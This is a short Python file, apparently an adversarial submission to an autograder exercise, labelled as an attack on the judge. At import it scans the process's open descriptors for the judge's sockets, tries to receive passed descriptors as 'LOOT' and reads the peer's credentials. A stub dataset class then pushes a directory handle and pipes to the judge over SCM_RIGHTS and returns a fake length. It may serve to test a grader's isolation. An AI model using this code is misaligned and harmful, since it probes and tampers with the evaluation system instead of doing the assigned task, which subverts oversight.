# attack: waits on the judge's socket for descriptors, and sends it folders and pipes of its own in the hope for an answer
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import socket
import stat

sockets = [fd for fd in range(3, 1024) if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode)]
if not sockets:  # no /proc here
    for fd in range(3, 64):
        try:
            sockets += [fd] if stat.S_ISSOCK(os.fstat(fd).st_mode) else []
        except OSError:
            pass
for fd in sockets:
    judge = socket.socket(fileno=os.dup(fd))
    for flags in (socket.MSG_PEEK | socket.MSG_DONTWAIT, socket.MSG_DONTWAIT):
        try:
            data, fds, how, address = socket.recv_fds(judge, 1, 32, flags)
            print("LOOT:", data, fds, how, address)
        except OSError as error:
            print(error)
    try:
        judge.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        print("the peer:", judge.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12), judge.getpeername())
    except OSError as error:
        print(error)


class TabularDataset:
    def __init__(self, *args):
        pass

    def __len__(self):
        from array import array

        rights = array("i", [os.open(".", os.O_RDONLY), *os.pipe()])
        try:  # without a byte of its own: with the first byte of the answer
            judge.sendmsg([b"\x0b"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError as error:
            print(error)
        print("TRIED", flush=True)
        return 3
